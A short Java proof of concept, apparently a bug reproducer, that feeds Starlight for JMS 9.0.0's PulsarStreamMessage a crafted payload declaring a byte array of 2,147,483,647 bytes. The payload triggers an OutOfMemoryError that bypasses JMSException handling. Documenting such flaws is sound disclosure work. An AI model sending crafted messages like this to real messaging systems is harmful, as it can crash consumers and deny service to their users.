import com.datastax.oss.pulsar.jms.messages.PulsarStreamMessage;

/**
 * A stream message of Starlight for JMS 9.0.0 whose payload says of its byte array that it is 2,147,483,647 long:
 * java -cp JARS Streams.java, with the jars of starlight-9.0.0.lock; no broker is needed. It prints
 *
 * java.lang.OutOfMemoryError: Requested array size exceeds VM limit
 *
 * which no handler of JMSException catches. Where the length is smaller than Java's limit, it is the heap that decides.
 */
public class Streams {
    private static final byte BYTES = 10;

    public static void main(String[] arguments) throws Exception {
        byte[] payload = {BYTES, 0x7f, -1, -1, -1, 1, 2, 3};
        try {
            System.out.println(new PulsarStreamMessage(payload).readObject());
        } catch (Throwable thrown) {
            System.out.println(thrown);
        }
    }
}
